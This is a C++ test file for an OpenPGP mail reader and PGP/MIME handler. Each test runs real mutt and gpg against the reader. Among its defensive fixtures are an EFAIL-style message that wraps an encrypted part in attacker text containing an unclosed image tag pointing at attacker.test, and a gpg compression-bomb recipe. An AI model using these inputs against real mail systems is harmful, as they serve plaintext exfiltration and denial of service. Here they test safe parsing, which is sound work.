// The OpenPGP mail reader (pgp::readOpenPgp) and PGP/MIME for answers
// (pgp::protectMail) against real clients: PGP/MIME from real mutt, inline
// blocks and hostile data from the gpg command line, and what secmaild sends
// checked with gpg as the researcher. Each test makes its own "secmaild" GnuPG
// home (a key from Gpg::createKey) and a researcher identity that know each
// other's public keys. A missing tool fails these tests; they never skip.
#include <doctest/doctest.h>

#include <algorithm>
#include <cctype>
#include <chrono>
#include <filesystem>
#include <optional>
#include <string>
#include <string_view>
#include <thread>
#include <utility>
#include <vector>

#include "harness_util.hpp"
#include "pgp_mail.hpp"
#include "process.hpp"
#include "secmaild/mime/compose.hpp"
#include "secmaild/mime/header_params.hpp"
#include "secmaild/mime/message.hpp"
#include "secmaild/pgp/gpg.hpp"
#include "secmaild/pgp/mail.hpp"
#include "secmaild/pgp/protect.hpp"
#include "secmaild/util/clock.hpp"
#include "secmaild/util/strings.hpp"
#include "temp_dir.hpp"

namespace fs = std::filesystem;
using namespace std::chrono_literals;
using namespace secmaild;
using namespace secmaild::pgp;
using testing::GpgIdentity;
using testing::InlineKind;
using testing::MuttCrypto;
using testing::MuttMail;

namespace {

constexpr const char* kOurUserId = "Security <security@example.org>";
constexpr const char* kOurAddress = "security@example.org";
// Generous for one read of one message; a hang or a bomb that runs to the end shows up as more.
constexpr auto kBoundedTime = 10s;

template <class T>
std::string errorText(const Result<T>& r) {
    return r.ok() ? std::string() : r.error().message;
}

bool contains(std::string_view s, std::string_view what) {
    return s.find(what) != std::string_view::npos;
}

std::size_t occurrences(std::string_view s, std::string_view what) {
    std::size_t n = 0;
    for (auto pos = s.find(what); pos != std::string_view::npos; pos = s.find(what, pos + what.size())) ++n;
    return n;
}

// What the reader said, for failure messages.
std::string summary(const MailSecurity& m) {
    std::string s = "encrypted=" + std::to_string(m.encrypted) + " allDecrypted=" + std::to_string(m.allDecrypted) +
                    " signedContent=" + std::to_string(m.signedContent) + " limitHit=" + std::to_string(m.limitHit) +
                    " keys=" + std::to_string(m.keys.size()) + "\n";
    for (const auto& l : m.layers) {
        s += "layer " + std::string(layerKindName(l.kind)) + " part='" + l.part +
             "' encrypted=" + std::to_string(l.encrypted) + " depth=" + std::to_string(l.depth);
        if (l.decryption) s += " decryption=" + std::string(decryptStatusName(*l.decryption));
        s += " signatures=[";
        for (const auto& sig : l.signatures)
            s += std::string(signatureStatusName(sig.status)) + ":" + sig.fingerprint + " ";
        s += "] detail='" + l.detail + "'\n";
    }
    for (const auto& p : m.problems) s += "problem: " + p + "\n";
    s += "reportText:\n" + m.reportText + "\n--\nunauthenticatedText:\n" + m.unauthenticatedText + "\n--\n";
    return s;
}

MailSecurity readMail(const std::string& raw, Gpg* gpg, const MailLimits& limits = {}) {
    const auto parsed = mime::parseMessage(raw, limits.message);
    return readOpenPgp(raw, parsed, gpg, limits);
}

// The one layer of a message that should have exactly one.
const Layer& onlyLayer(const MailSecurity& m) {
    REQUIRE_MESSAGE(m.layers.size() == 1, summary(m));
    return m.layers.front();
}

// The header block of a message with '\n' line ends (as mutt writes it), split off its body.
std::pair<std::string, std::string> splitHeader(const std::string& raw) {
    const auto end = raw.find("\n\n");
    REQUIRE(end != std::string::npos);
    return {raw.substr(0, end + 1), raw.substr(end + 2)};
}

// The field (with its continuation lines) of that name in a '\n' header block.
std::string headerField(const std::string& header, std::string_view name) {
    std::size_t pos = 0;
    while (pos < header.size()) {
        auto next = header.find('\n', pos);
        next = next == std::string::npos ? header.size() : next + 1;
        if (istartsWith(std::string_view(header).substr(pos), std::string(name) + ":")) {
            auto end = next;
            while (end < header.size() && (header[end] == ' ' || header[end] == '\t')) {
                auto more = header.find('\n', end);
                end = more == std::string::npos ? header.size() : more + 1;
            }
            return header.substr(pos, end - pos);
        }
        pos = next;
    }
    return "";
}

// The secmaild side (a GnuPG home driven through pgp::Gpg, key made by
// createKey) and a researcher (gpg command line, mutt), each holding the
// other's public key; the researcher's copy of ours is certified so mutt and
// gpg encrypt to it without asking. Agents are stopped and everything removed
// at the end.
class World {
public:
    World() {
        GpgOptions options;
        options.home = dir_ / "s";
        auto opened = Gpg::open(options);
        REQUIRE_MESSAGE(opened.ok(), errorText(opened));
        gpg_.emplace(std::move(opened).value());
        homes_.push_back(gpg_->home());
        auto fpr = gpg_->createKey(kOurUserId);
        REQUIRE_MESSAGE(fpr.ok(), errorText(fpr));
        ourFingerprint = *fpr;

        researcher = identity("r", "Rita Reporter", "rita@researcher.test");
        auto ours = gpg_->exportPublicKey(ourFingerprint);
        REQUIRE_MESSAGE(ours.ok(), errorText(ours));
        const auto st = testing::importPublicKey(researcher, *ours);
        REQUIRE_MESSAGE(st.ok(), errorText(st));
        auto theirs = testing::exportPublicKey(researcher);
        REQUIRE_MESSAGE(theirs.ok(), errorText(theirs));
        auto imported = gpg_->importKeys(*theirs);
        REQUIRE_MESSAGE(imported.ok(), errorText(imported));
        REQUIRE(std::find(imported->begin(), imported->end(), researcher.fingerprint) != imported->end());
    }
    ~World() {
        gpg_.reset();
        for (const auto& home : homes_) stopAgent(home);
        // The agents remove their sockets as they exit, which can race the removal; retry.
        for (int attempt = 0; attempt < 40 && fs::exists(dir_.path()); ++attempt) {
            std::error_code ec;
            fs::remove_all(dir_.path(), ec);
            if (ec) std::this_thread::sleep_for(25ms);
        }
    }
    World(const World&) = delete;
    World& operator=(const World&) = delete;

    Gpg& gpg() { return *gpg_; }
    const fs::path& ourHome() const { return homes_.front(); }
    const fs::path& root() const { return dir_.path(); }

    // Another identity with its own home under the test directory.
    GpgIdentity identity(const std::string& dir, const std::string& name, const std::string& email) {
        auto id = testing::makeGpgIdentity(dir_ / dir, name, email);
        REQUIRE_MESSAGE(id.ok(), errorText(id));
        homes_.push_back(id->home);
        return *id;
    }

    fs::path file(const std::string& name, const std::string& content) const {
        const fs::path p = dir_ / name;
        REQUIRE(testing::writeFile(p, content).ok());
        return p;
    }

    // A mail from the researcher to secmaild composed by mutt.
    std::string mutt(MuttCrypto crypto, const std::string& subject, const std::string& body,
                     std::vector<fs::path> attachments = {}, bool attachKey = false) {
        MuttMail mail;
        mail.to = kOurAddress;
        mail.subject = subject;
        mail.body = body;
        mail.attachments = std::move(attachments);
        mail.crypto = crypto;
        mail.attachPublicKey = attachKey;
        auto raw = testing::muttCompose(researcher, mail);
        REQUIRE_MESSAGE(raw.ok(), errorText(raw));
        return *raw;
    }

    // An inline block made by the researcher's gpg, encrypted (when asked) to secmaild's key.
    std::string armor(const std::string& plain, InlineKind kind, const std::string& to = "") {
        const bool encrypt = kind == InlineKind::EncryptSign || kind == InlineKind::Encrypt;
        auto block = testing::gpgArmor(researcher, encrypt ? (to.empty() ? ourFingerprint : to) : "", plain, kind);
        REQUIRE_MESSAGE(block.ok(), errorText(block));
        return *block;
    }

    // A plain text message from the researcher (CRLF) with this body.
    std::string plain(const std::string& subject, const std::string& body) const {
        return testing::plainMessage(researcher.name, researcher.email, kOurAddress, subject, body);
    }

    std::string ourFingerprint;
    GpgIdentity researcher;

private:
    testing::TempDir dir_;  // first: removed last
    std::vector<fs::path> homes_;
    std::optional<Gpg> gpg_;
};

bool hasValidSignatureBy(const std::vector<Signature>& sigs, const std::string& fpr) {
    return sigs.size() == 1 && sigs.front().status == SignatureStatus::Valid && sigs.front().fingerprint == fpr;
}

// The long key id of the identity's encryption subkey, from gpg --with-colons.
std::string encryptionSubkeyId(const GpgIdentity& who) {
    testing::CommandOptions options;
    options.timeout = 30s;
    const auto r = testing::runCommand(
        {"gpg", "--homedir", who.home.string(), "--batch", "--with-colons", "--list-keys", who.fingerprint}, options);
    REQUIRE_MESSAGE(r.ok(), r.err);
    for (auto line : splitLines(r.out)) {
        if (line.substr(0, 4) != "sub:") continue;
        const auto fields = split(line, ':');
        if (fields.size() > 11 && contains(fields[11], "e")) {
            std::string id(fields[4]);
            for (char& c : id) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
            return id;
        }
    }
    FAIL("no encryption subkey listed for " << who.fingerprint << ":\n" << r.out);
    return "";
}

// A multipart/encrypted message around `armored`, with this outer subject.
std::string pgpMimeMessage(const GpgIdentity& from, const std::string& subject, const std::string& armored) {
    std::string m = "From: " + from.name + " <" + from.email + ">\n";
    m += "To: " + std::string(kOurAddress) + "\n";
    m += "Subject: " + subject + "\n";
    m += "Message-ID: <pgpmime.1@researcher.test>\n";
    m += "MIME-Version: 1.0\n";
    m += "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\";\n boundary=\"enc-9788\"\n\n";
    m += "--enc-9788\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n";
    m += "--enc-9788\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\n";
    m += "Content-Disposition: inline; filename=\"encrypted.asc\"\n\n";
    m += armored;
    if (!armored.empty() && armored.back() != '\n') m += "\n";
    m += "--enc-9788--\n";
    return testing::toCrlf(m);
}

// The researcher's gpg output for `plain` (binary, not armored), encrypted to `to` and signed.
std::string binaryEncrypted(const World& w, const std::string& plain, const std::string& to) {
    const fs::path in = w.file("binary.in", plain);
    const fs::path out = w.root() / "binary.gpg";
    std::error_code ec;
    fs::remove(out, ec);
    testing::CommandOptions options;
    options.timeout = 60s;
    const auto r = testing::runCommand(
        {"gpg", "--homedir", w.researcher.home.string(), "--batch", "--no-tty", "--local-user",
         w.researcher.fingerprint, "--recipient", to, "--output", out.string(), "--sign", "--encrypt", in.string()},
        options);
    REQUIRE_MESSAGE(r.ok(), r.err);
    return testing::readFile(out);
}

// A gpg command line fed 200 MB of zeros, compressed at zlib level 9: a small armored
// message that expands 1000-fold. `operation` is "--recipient FPR --encrypt" or "--sign".
std::string compressionBomb(const World& w, const std::string& name, const std::string& operation) {
    const fs::path out = w.root() / name;
    testing::CommandOptions options;
    options.timeout = 120s;
    const std::string command = "head -c 200000000 /dev/zero | gpg --homedir '" + w.researcher.home.string() +
                                "' --batch --no-tty --armor --compress-algo zlib -z 9 --local-user " +
                                w.researcher.fingerprint + " --output '" + out.string() + "' " + operation;
    const auto made = testing::runCommand({"sh", "-c", command}, options);
    REQUIRE_MESSAGE(made.ok(), made.err);
    std::string bomb = testing::readFile(out);
    REQUIRE(contains(bomb, "-----BEGIN PGP MESSAGE-----"));
    CHECK(bomb.size() < 1'000'000);
    return bomb;
}

template <class F>
std::chrono::milliseconds timed(F&& f) {
    const auto start = std::chrono::steady_clock::now();
    f();
    return std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - start);
}

}  // namespace

TEST_CASE(
    "a signed and encrypted PGP/MIME report from mutt reads as its decrypted body and text attachment, "
    "signed by the researcher, with the attachment among the decrypted parts") {
    World w;
    const auto attachment = w.file("report.txt", "ATTACH-91c2 steps to reproduce: run ./poc\n");
    const std::string raw =
        w.mutt(MuttCrypto::SignEncrypt, "Heap overflow", "Hello,\nBODY-7f3a the parser overflows.\n", {attachment});
    const std::string wire = testing::toCrlf(raw);
    const auto parsed = mime::parseMessage(wire);
    REQUIRE_FALSE(contains(wire, "BODY-7f3a"));  // the check below is about decryption, not about the parser

    const auto m = readOpenPgp(wire, parsed, &w.gpg());
    INFO(summary(m));
    CHECK(m.encrypted);
    CHECK(m.allDecrypted);
    const Layer& layer = onlyLayer(m);
    CHECK(layer.kind == Layer::Kind::MimeEncrypted);
    CHECK(layer.part == "");
    REQUIRE(layer.decryption.has_value());
    CHECK(*layer.decryption == DecryptStatus::Decrypted);
    CHECK(hasValidSignatureBy(layer.signatures, w.researcher.fingerprint));
    CHECK(m.signedContent);
    CHECK(contains(m.reportText, "BODY-7f3a the parser overflows."));
    CHECK(contains(m.reportText, "ATTACH-91c2 steps to reproduce"));
    CHECK(m.unauthenticatedText.empty());
    CHECK_FALSE(m.protectedSubject.has_value());  // mutt here writes no protected headers

    const auto found = std::find_if(m.decryptedParts.begin(), m.decryptedParts.end(),
                                    [](const mime::Part& p) { return p.filename == "report.txt"; });
    REQUIRE(found != m.decryptedParts.end());
    CHECK(found->attachment);
    CHECK(found->decoded == "ATTACH-91c2 steps to reproduce: run ./poc\n");
    CHECK(contains(found->path, "decrypted:"));

    // What the plain MIME reader sees of the same mail is not the report.
    CHECK_FALSE(contains(parsed.text, "BODY-7f3a"));
    CHECK_FALSE(contains(parsed.text, "ATTACH-91c2"));
}

TEST_CASE(
    "a Subject inside the encryption (RFC 9788 protected headers) becomes protectedSubject and the "
    "outer subject stays as it was") {
    World w;
    const std::string inner = testing::toCrlf(
        "Content-Type: text/plain; charset=utf-8; protected-headers=\"v1\"\n"
        "Subject: Use-after-free in libfoo 2.3\n"
        "From: Rita Reporter <rita@researcher.test>\n"
        "To: security@example.org\n"
        "\n"
        "Protected body PROT-8e1b.\n");
    const std::string raw = pgpMimeMessage(w.researcher, "...", w.armor(inner, InlineKind::EncryptSign));
    REQUIRE_FALSE(contains(raw, "libfoo"));
    const auto parsed = mime::parseMessage(raw);
    const auto m = readOpenPgp(raw, parsed, &w.gpg());
    INFO(summary(m));
    CHECK(m.allDecrypted);
    REQUIRE(m.protectedSubject.has_value());
    CHECK(*m.protectedSubject == "Use-after-free in libfoo 2.3");
    CHECK(parsed.subject == "...");
    CHECK(contains(m.reportText, "Protected body PROT-8e1b."));
    CHECK_FALSE(contains(m.reportText, "Use-after-free"));  // a header, not body text
    CHECK(hasValidSignatureBy(onlyLayer(m).signatures, w.researcher.fingerprint));
}

TEST_CASE(
    "a signed-only PGP/MIME mail from mutt verifies with CRLF or bare LF line ends, and one changed "
    "body byte makes the signature bad") {
    World w;
    const std::string raw = w.mutt(MuttCrypto::Sign, "Signed only", "Readable text SIGNED-55d0.\nSecond line.\n");
    REQUIRE(contains(raw, "multipart/signed"));
    REQUIRE(contains(raw, "\n"));
    REQUIRE_FALSE(contains(raw, "\r\n"));  // mutt hands its sendmail bare LF, like an MTA pipe

    for (const std::string& variant : {testing::toCrlf(raw), raw}) {
        CAPTURE(contains(variant, "\r\n"));
        const auto m = readMail(variant, &w.gpg());
        INFO(summary(m));
        CHECK_FALSE(m.encrypted);
        CHECK_FALSE(m.allDecrypted);
        CHECK(m.signedContent);
        const Layer& layer = onlyLayer(m);
        CHECK(layer.kind == Layer::Kind::MimeSigned);
        CHECK_FALSE(layer.encrypted);
        CHECK(hasValidSignatureBy(layer.signatures, w.researcher.fingerprint));
        CHECK(contains(m.reportText, "Readable text SIGNED-55d0."));
        CHECK(contains(m.signedText, "Readable text SIGNED-55d0."));
    }

    std::string tampered = testing::toCrlf(raw);
    const auto at = tampered.find("SIGNED-55d0");
    REQUIRE(at != std::string::npos);
    tampered[at + 10] = '1';
    const auto bad = readMail(tampered, &w.gpg());
    INFO(summary(bad));
    const Layer& layer = onlyLayer(bad);
    REQUIRE(layer.signatures.size() == 1);
    CHECK(layer.signatures.front().status == SignatureStatus::Bad);
    CHECK(bad.signatures().size() == 1);
}

TEST_CASE(
    "an inline encrypted block in a plain message: reportText is exactly its decrypted text, the text "
    "around it is unauthenticated; two blocks are both read, in order") {
    World w;
    const std::string secret = "Inline secret INLINE-4411\nsecond line of the report";
    const std::string block = w.armor(secret + "\n", InlineKind::EncryptSign);
    const std::string raw =
        w.plain("Inline report", "Hi, CLEAR-BEFORE-1 please read:\n\n" + block + "\nCLEAR-AFTER-2 Rita\n");
    const auto m = readMail(raw, &w.gpg());
    INFO(summary(m));
    CHECK(m.encrypted);
    CHECK(m.allDecrypted);
    const Layer& layer = onlyLayer(m);
    CHECK(layer.kind == Layer::Kind::InlineEncrypted);
    CHECK(layer.decryption == DecryptStatus::Decrypted);
    CHECK(hasValidSignatureBy(layer.signatures, w.researcher.fingerprint));
    CHECK(m.reportText == secret);
    CHECK(contains(m.unauthenticatedText, "CLEAR-BEFORE-1"));
    CHECK(contains(m.unauthenticatedText, "CLEAR-AFTER-2"));
    CHECK_FALSE(contains(m.unauthenticatedText, "INLINE-4411"));
    CHECK_FALSE(contains(m.unauthenticatedText, "BEGIN PGP"));

    const std::string first = w.armor("FIRST-BLOCK-a1\n", InlineKind::Encrypt);
    const std::string second = w.armor("SECOND-BLOCK-b2\n", InlineKind::EncryptSign);
    const auto two = readMail(w.plain("Two blocks", "intro\n" + first + "middle\n" + second + "outro\n"), &w.gpg());
    INFO(summary(two));
    REQUIRE(two.layers.size() == 2);
    CHECK(two.allDecrypted);
    CHECK(two.layers[0].signatures.empty());
    CHECK(hasValidSignatureBy(two.layers[1].signatures, w.researcher.fingerprint));
    const auto a = two.reportText.find("FIRST-BLOCK-a1");
    const auto b = two.reportText.find("SECOND-BLOCK-b2");
    REQUIRE(a != std::string::npos);
    REQUIRE(b != std::string::npos);
    CHECK(a < b);
    CHECK_FALSE(contains(two.reportText, "intro"));
    CHECK_FALSE(contains(two.reportText, "middle"));
    CHECK_FALSE(contains(two.reportText, "outro"));
    const auto i = two.unauthenticatedText.find("intro");
    const auto mid = two.unauthenticatedText.find("middle");
    const auto o = two.unauthenticatedText.find("outro");
    CHECK((i != std::string::npos && mid != std::string::npos && o != std::string::npos && i < mid && mid < o));
}

TEST_CASE(
    "an inline clearsigned text is read without its armor and verifies; the same text altered gives a "
    "bad signature") {
    World w;
    const std::string block = w.armor("Clear text CLEAR-2c7e\n- a dashed line\n", InlineKind::ClearSign);
    REQUIRE(contains(block, "-----BEGIN PGP SIGNED MESSAGE-----"));
    const std::string raw = w.plain("Signed report", "Hello,\n" + block);
    const auto m = readMail(raw, &w.gpg());
    INFO(summary(m));
    CHECK_FALSE(m.encrypted);
    CHECK(m.signedContent);
    const Layer& layer = onlyLayer(m);
    CHECK(layer.kind == Layer::Kind::InlineSigned);
    CHECK_FALSE(layer.encrypted);
    CHECK(hasValidSignatureBy(layer.signatures, w.researcher.fingerprint));
    CHECK(contains(m.reportText, "Hello,"));
    CHECK(contains(m.reportText, "Clear text CLEAR-2c7e\n- a dashed line"));
    CHECK_FALSE(contains(m.reportText, "-----BEGIN PGP SIGNED MESSAGE-----"));
    CHECK_FALSE(contains(m.reportText, "-----BEGIN PGP SIGNATURE-----"));
    CHECK_FALSE(contains(m.reportText, "Hash:"));
    CHECK(contains(m.signedText, "Clear text CLEAR-2c7e"));
    CHECK_FALSE(contains(m.signedText, "Hello,"));

    std::string altered = raw;
    altered.replace(altered.find("CLEAR-2c7e"), 10, "CLEAR-2c7f");
    const auto bad = readMail(altered, &w.gpg());
    INFO(summary(bad));
    const Layer& badLayer = onlyLayer(bad);
    REQUIRE(badLayer.signatures.size() == 1);
    CHECK(badLayer.signatures.front().status == SignatureStatus::Bad);
}

TEST_CASE("an inline signed-only BEGIN PGP MESSAGE block is not encrypted and its text is readable") {
    World w;
    const std::string block = w.armor("Opaque signed OPAQUE-3d9a\n", InlineKind::Sign);
    REQUIRE_FALSE(contains(block, "OPAQUE-3d9a"));
    const auto m = readMail(w.plain("Signed only", "Before\n" + block), &w.gpg());
    INFO(summary(m));
    CHECK_FALSE(m.encrypted);
    CHECK_FALSE(m.allDecrypted);
    CHECK(m.signedContent);
    const Layer& layer = onlyLayer(m);
    CHECK(layer.kind == Layer::Kind::InlineSigned);
    CHECK_FALSE(layer.encrypted);
    REQUIRE(layer.decryption.has_value());
    CHECK(*layer.decryption == DecryptStatus::NotEncrypted);
    CHECK(hasValidSignatureBy(layer.signatures, w.researcher.fingerprint));
    CHECK(contains(m.reportText, "Opaque signed OPAQUE-3d9a"));
    CHECK(contains(m.reportText, "Before"));
    CHECK_FALSE(contains(m.reportText, "BEGIN PGP"));
    CHECK(m.unauthenticatedText.empty());
}

TEST_CASE(
    "EFAIL wrapping: clear text and HTML around a researcher's encrypted part stay unauthenticated and "
    "are never joined to the decrypted report") {
    World w;
    const std::string encrypted = w.mutt(MuttCrypto::SignEncrypt, "Report", "SECRET-BODY-e4f1 details.\n");
    const auto [header, body] = splitHeader(encrypted);
    const std::string contentType = headerField(header, "Content-Type");
    REQUIRE(contains(contentType, "multipart/encrypted"));

    std::string m = "From: Mallory <mallory@attacker.test>\nTo: security@example.org\nSubject: Re: Report\n";
    m += "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"efail-outer\"\n\n";
    m += "--efail-outer\nContent-Type: text/plain; charset=utf-8\n\nATTACKER-TEXT-1 <img src=\"http://attacker.test/\n";
    m += "--efail-outer\n" + contentType + "\n" + body;
    if (m.back() != '\n') m += "\n";
    m += "--efail-outer\nContent-Type: text/html; charset=utf-8\n\n<p>ATTACKER-HTML-2 \"></p>\n";
    m += "--efail-outer--\n";
    const std::string raw = testing::toCrlf(m);

    const auto r = readMail(raw, &w.gpg());
    INFO(summary(r));
    CHECK(r.encrypted);
    CHECK(r.allDecrypted);
    const Layer& layer = onlyLayer(r);
    CHECK(layer.kind == Layer::Kind::MimeEncrypted);
    CHECK(layer.part == "2");
    CHECK(contains(r.reportText, "SECRET-BODY-e4f1 details."));
    CHECK_FALSE(contains(r.reportText, "ATTACKER"));
    CHECK_FALSE(contains(r.reportText, "attacker.test"));
    CHECK(contains(r.unauthenticatedText, "ATTACKER-TEXT-1"));
    CHECK(contains(r.unauthenticatedText, "ATTACKER-HTML-2"));
    CHECK_FALSE(contains(r.unauthenticatedText, "SECRET-BODY"));
    CHECK(contains(r.signedText, "SECRET-BODY-e4f1"));
    CHECK_FALSE(contains(r.signedText, "ATTACKER"));
}

TEST_CASE(
    "a report encrypted to someone else's key is encrypted but not decrypted, names its recipient key, "
    "and gives no report text") {
    World w;
    GpgIdentity other = w.identity("o", "Oscar Other", "oscar@elsewhere.test");
    auto otherKey = testing::exportPublicKey(other);
    REQUIRE_MESSAGE(otherKey.ok(), errorText(otherKey));
    REQUIRE(testing::importPublicKey(w.researcher, *otherKey).ok());
    const std::string otherSubkey = encryptionSubkeyId(other);

    const std::string block = w.armor("NOT-FOR-US-77aa\n", InlineKind::EncryptSign, other.fingerprint);
    const auto m = readMail(w.plain("Wrong key", "CLEAR-AROUND-1\n" + block + "CLEAR-AROUND-2\n"), &w.gpg());
    INFO(summary(m));
    CHECK(m.encrypted);
    CHECK_FALSE(m.allDecrypted);
    const Layer& layer = onlyLayer(m);
    CHECK(layer.encrypted);
    REQUIRE(layer.decryption.has_value());
    CHECK(*layer.decryption == DecryptStatus::NoSecretKey);
    CHECK(layer.recipientKeyIds == std::vector<std::string>{otherSubkey});
    CHECK(m.reportText.empty());
    CHECK(contains(m.unauthenticatedText, "CLEAR-AROUND-1"));
    CHECK(contains(m.unauthenticatedText, "CLEAR-AROUND-2"));

    // The same through PGP/MIME from mutt.
    MuttMail mail;
    mail.to = other.email;
    mail.subject = "Wrong key";
    mail.body = "NOT-FOR-US-88bb\n";
    mail.crypto = MuttCrypto::Encrypt;
    auto raw = testing::muttCompose(w.researcher, mail);
    REQUIRE_MESSAGE(raw.ok(), errorText(raw));
    const auto mime = readMail(testing::toCrlf(*raw), &w.gpg());
    INFO(summary(mime));
    CHECK(mime.encrypted);
    CHECK_FALSE(mime.allDecrypted);
    const Layer& mimeLayer = onlyLayer(mime);
    CHECK(mimeLayer.kind == Layer::Kind::MimeEncrypted);
    CHECK(mimeLayer.decryption == DecryptStatus::NoSecretKey);
    CHECK(mimeLayer.recipientKeyIds == std::vector<std::string>{otherSubkey});
    CHECK(mime.reportText.empty());
}

TEST_CASE("garbage inside a BEGIN PGP MESSAGE armor is recorded as corrupt, in bounded time") {
    World w;
    const std::string raw = w.plain("Garbage",
                                    "See below.\n-----BEGIN PGP MESSAGE-----\n\nThis is not base64 at all !!! $$$\n"
                                    "*** nor is this ***\n=XXXX\n-----END PGP MESSAGE-----\nBye\n");
    MailSecurity m;
    const auto took = timed([&] { m = readMail(raw, &w.gpg()); });
    INFO(summary(m));
    CHECK(took < kBoundedTime);
    const Layer& layer = onlyLayer(m);
    CHECK(layer.kind == Layer::Kind::InlineEncrypted);
    CHECK(layer.decryption == DecryptStatus::Corrupt);
    CHECK(m.encrypted);
    CHECK_FALSE(m.allDecrypted);
    CHECK(m.reportText.empty());
}

TEST_CASE("a truncated inline ciphertext is recorded as corrupt, in bounded time") {
    World w;
    std::string secret;
    for (int i = 0; i < 200; ++i) secret += "line " + std::to_string(i) + " of a long report TRUNC-5b\n";
    const std::string block = w.armor(secret, InlineKind::EncryptSign);
    // The armor header, the blank line and the first half of the base64 lines, then the END line.
    const auto lines = splitLines(block);
    REQUIRE(lines.size() > 10);
    std::string cut;
    for (std::size_t i = 0; i < lines.size() / 2; ++i) cut += std::string(lines[i]) + "\n";
    cut += "-----END PGP MESSAGE-----\n";

    MailSecurity m;
    const auto took = timed([&] { m = readMail(w.plain("Truncated", cut), &w.gpg()); });
    INFO(summary(m));
    CHECK(took < kBoundedTime);
    const Layer& layer = onlyLayer(m);
    CHECK(layer.decryption == DecryptStatus::Corrupt);
    CHECK_FALSE(m.allDecrypted);
    CHECK_FALSE(contains(m.reportText, "TRUNC-5b"));
}

TEST_CASE("a multipart/signed without its signature part says the signature is missing and has no signatures") {
    World w;
    const std::string raw = testing::toCrlf(
        "From: Rita Reporter <rita@researcher.test>\nTo: security@example.org\nSubject: Half signed\n"
        "MIME-Version: 1.0\n"
        "Content-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\";\n"
        " boundary=\"sig-b\"\n\n"
        "--sig-b\nContent-Type: text/plain; charset=utf-8\n\nSigned, they say. HALF-1c\n"
        "--sig-b--\n");
    MailSecurity m;
    const auto took = timed([&] { m = readMail(raw, &w.gpg()); });
    INFO(summary(m));
    CHECK(took < kBoundedTime);
    const Layer& layer = onlyLayer(m);
    CHECK(layer.kind == Layer::Kind::MimeSigned);
    CHECK(layer.signatures.empty());
    CHECK(contains(layer.detail, "missing"));
    CHECK_FALSE(m.signedContent);
    CHECK(m.signatures().empty());
    CHECK(
        std::any_of(m.problems.begin(), m.problems.end(), [](const std::string& p) { return contains(p, "missing"); }));
    CHECK(contains(m.reportText, "HALF-1c"));  // still readable, just not signed
}

TEST_CASE("multipart/encrypted with an S/MIME protocol is unsupported and not decrypted, even when gpg could") {
    World w;
    const std::string raw = testing::toCrlf(w.mutt(MuttCrypto::SignEncrypt, "Report", "SMIME-PROTO-0e\n"));
    std::string smime = raw;
    const std::string pgp = "protocol=\"application/pgp-encrypted\"";
    const auto at = smime.find(pgp);
    REQUIRE(at != std::string::npos);
    REQUIRE(at < smime.find("\r\n\r\n"));
    smime.replace(at, pgp.size(), "protocol=\"application/x-pkcs7-mime\"");

    MailSecurity m;
    const auto took = timed([&] { m = readMail(smime, &w.gpg()); });
    INFO(summary(m));
    CHECK(took < kBoundedTime);
    CHECK(m.encrypted);
    CHECK_FALSE(m.allDecrypted);
    const Layer& layer = onlyLayer(m);
    CHECK(layer.kind == Layer::Kind::MimeEncrypted);
    CHECK(layer.decryption == DecryptStatus::Unsupported);
    CHECK(contains(layer.detail, "application/x-pkcs7-mime"));
    CHECK(layer.signatures.empty());
    CHECK_FALSE(contains(m.reportText, "SMIME-PROTO-0e"));
    CHECK(m.decryptedParts.empty());

    // The unchanged mail decrypts: the protocol alone made the difference.
    const auto control = readMail(raw, &w.gpg());
    CHECK(control.allDecrypted);
    CHECK(contains(control.reportText, "SMIME-PROTO-0e"));
}

TEST_CASE(
    "a compression bomb, encrypted to us or only signed, stops at GpgOptions::maxPlaintextBytes as too "
    "large, quickly, holding no plaintext") {
    World w;
    GpgOptions limited;
    limited.home = w.ourHome();
    limited.maxPlaintextBytes = 1u << 20;
    auto opened = Gpg::open(limited);
    REQUIRE_MESSAGE(opened.ok(), errorText(opened));
    Gpg small = std::move(opened).value();

    const std::string encrypted = compressionBomb(w, "bomb.asc", "--recipient " + w.ourFingerprint + " --encrypt");
    MailSecurity m;
    auto took = timed([&] { m = readMail(w.plain("Bomb", "Here it comes:\n" + encrypted), &small); });
    INFO(summary(m));
    MESSAGE("encrypted compression bomb refused in " << took.count() << " ms");
    CHECK(took < kBoundedTime);
    CHECK(m.encrypted);
    CHECK_FALSE(m.allDecrypted);
    const Layer& layer = onlyLayer(m);
    CHECK(layer.decryption == DecryptStatus::TooLarge);
    CHECK(m.reportText.empty());
    CHECK(m.decryptedParts.empty());

    const std::string signedOnly = compressionBomb(w, "sbomb.asc", "--sign");
    MailSecurity s;
    took = timed([&] { s = readMail(w.plain("Bomb", "Signed:\n" + signedOnly), &small); });
    INFO(summary(s));
    MESSAGE("signed-only compression bomb refused in " << took.count() << " ms");
    CHECK(took < kBoundedTime);
    CHECK_FALSE(s.allDecrypted);
    CHECK(onlyLayer(s).decryption == DecryptStatus::TooLarge);
    CHECK(s.reportText.size() < 1000);
    CHECK(s.signedText.empty());

    // The same home with the default limit reads a harmless message: the limit, not the home, refused.
    const auto fine = readMail(w.plain("Fine", w.armor("SMALL-OK-3\n", InlineKind::Encrypt)), &small);
    CHECK(fine.allDecrypted);
    CHECK(fine.reportText == "SMALL-OK-3");
}

TEST_CASE("more inline blocks than MailLimits::maxObjects: the first maxObjects are read and the limit is flagged") {
    World w;
    const MailLimits limits;
    const std::string block = w.armor("REPEATED-9c\n", InlineKind::Encrypt);
    std::string body;
    for (std::size_t i = 0; i <= limits.maxObjects; ++i) body += "block " + std::to_string(i) + "\n" + block;
    MailSecurity m;
    const auto took = timed([&] { m = readMail(w.plain("Many", body), &w.gpg(), limits); });
    INFO(summary(m));
    MESSAGE((limits.maxObjects + 1) << " inline blocks read in " << took.count() << " ms");
    CHECK(took < 3 * kBoundedTime);
    CHECK(m.limitHit);
    CHECK_FALSE(m.allDecrypted);
    const auto decrypted = std::count_if(m.layers.begin(), m.layers.end(),
                                         [](const Layer& l) { return l.decryption == DecryptStatus::Decrypted; });
    CHECK(static_cast<std::size_t>(decrypted) == limits.maxObjects);
    CHECK(m.layers.size() == limits.maxObjects + 1);
    CHECK(occurrences(m.reportText, "REPEATED-9c") == limits.maxObjects);
